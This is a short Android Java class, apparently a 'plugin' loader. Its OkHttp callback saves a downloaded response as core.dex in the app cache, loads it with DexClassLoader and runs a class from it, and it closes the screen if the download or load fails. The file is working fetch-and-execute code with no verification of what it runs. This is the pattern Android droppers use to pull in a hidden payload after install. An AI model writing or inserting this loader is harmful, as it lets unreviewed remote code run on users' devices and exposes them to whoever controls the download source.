package com.example.okplugin;

import android.app.Activity;
import dalvik.system.DexClassLoader;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import okhttp3.Call;
import okhttp3.Callback;
import okhttp3.Response;

/** Keeps the plugin and runs it. */
final class Arrival implements Callback {
    private final Activity screen;

    Arrival(Activity screen) {
        this.screen = screen;
    }

    @Override
    public void onFailure(Call call, IOException offline) {
        screen.finish();
    }

    @Override
    public void onResponse(Call call, Response response) throws IOException {
        File kept = new File(screen.getCacheDir(), "core.dex");
        InputStream in = response.body().byteStream();
        FileOutputStream out = new FileOutputStream(kept);
        byte[] buffer = new byte[4096];
        for (int count = in.read(buffer); count > 0; count = in.read(buffer)) {
            out.write(buffer, 0, count);
        }
        out.close();
        DexClassLoader loader = new DexClassLoader(kept.getPath(), null, null, screen.getClassLoader());
        try {
            ((Runnable) loader.loadClass("com.example.plugin.Start").getConstructor().newInstance()).run();
        } catch (ReflectiveOperationException none) {
            screen.finish();
        }
    }
}
